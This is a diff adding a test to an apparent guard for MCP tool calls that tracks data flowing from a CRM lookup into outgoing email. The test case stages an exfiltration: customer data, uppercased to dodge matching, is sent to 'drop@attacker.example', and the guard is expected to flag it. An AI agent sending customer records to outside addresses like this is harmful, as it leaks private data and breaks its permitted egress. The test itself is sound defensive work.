@@ -48,6 +48,16 @@ describe("guard with classification and flow tracking", () => {
     await guard.close();
   });
 
+  it("tracks values from an MCP result whose text content is a JSON document", async () => {
+    const { guard } = await supportGuard();
+    const call = { server: "crm", tool: "get_customer", args: { id: 7 }, sessionId: "s1" };
+    await guard.beforeCall(call);
+    await guard.afterCall(call, { content: [{ type: "text", text: JSON.stringify({ customer: CUSTOMER }) }], isError: false });
+    const verdict = await guard.beforeCall({ server: "mail", tool: "send_email", args: { to: "drop@attacker.example", body: `contact: ${CUSTOMER.email.toUpperCase()}` }, sessionId: "s1" });
+    expect(verdict.policyIds).toContain("flow-to-egress-outside-allow");
+    await guard.close();
+  });
+
   it("allows the same email sent to a destination inside egress.allow", async () => {
     const { guard } = await supportGuard();
     await readCustomer(guard);
